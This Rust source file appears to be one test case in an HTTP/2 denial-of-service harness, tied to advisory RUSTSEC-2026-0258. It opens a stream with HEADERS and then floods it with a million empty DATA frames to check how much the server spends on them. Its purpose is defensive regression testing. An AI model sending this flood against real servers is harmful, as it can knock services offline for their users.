//! Frames of DATA without anything in them (RUSTSEC-2026-0258).

use super::hold_floods;
use crate::attacker::Attacker;
use crate::case::{Attack, Budgets, Case};
use crate::frames::{DATA, END_HEADERS, HEADERS, frame};
use crate::link::LIVESTREAMS;

pub(super) struct SmallDataFlood;

impl Case for SmallDataFlood {
    fn name(&self) -> &'static str {
        "small-data-flood"
    }

    fn does(&self) -> &'static str {
        "sends empty DATA frames on a stream, a million in all"
    }

    fn budget(&self, _budgets: &Budgets<'_>) -> u64 {
        0
    }

    fn run<'a>(&'a self, attacker: &'a Attacker) -> Attack<'a> {
        let mut begins = Vec::new();
        frame(&mut begins, HEADERS, END_HEADERS, 1, &attacker.call_headers(&format!("{LIVESTREAMS}PublishUpdates")));
        Box::pin(async move { hold_floods(attacker, &begins, |out, _| frame(out, DATA, 0, 1, &[])).await })
    }
}
